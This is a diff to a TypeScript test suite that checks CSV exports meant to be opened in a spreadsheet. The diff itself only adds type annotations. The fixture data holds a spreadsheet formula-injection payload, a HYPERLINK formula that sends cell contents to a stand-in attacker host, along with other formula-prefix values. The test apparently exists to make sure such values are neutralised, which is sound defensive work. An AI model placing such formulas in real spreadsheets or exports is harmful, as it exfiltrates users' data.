@@ -31,11 +31,11 @@ describe('CSV files a person opens in a spreadsheet', () => {
     const root = mkdtempSync(join(tmpdir(), 'spreadsheet-reports-'));
     const exportDir = join(root, 'export');
     const evilOwner = '=HYPERLINK("http://evil.example/?"&A1)';
-    const accounts = [
+    const accounts: Record<string, string>[] = [
       ...companies(2),
       // three companies of an owner no destination user matches
       ...companies(3, 200).map((c) => ({ ...c, 'Owner Email': evilOwner })),
-      { ...companies(1, 300)[0], 'Company ID': '-7' },
+      { ...(companies(1, 300)[0] as Record<string, string>), 'Company ID': '-7' },
     ];
     const contacts = [
       { 'Contact ID': '1', 'First Name': 'Zoë', 'Last Name': 'Müller', Email: 'zoe@example.org', 'Company ID': '+44', 'Owner Email': OWNER, 'Created Date': '01/02/2024 10:00' },
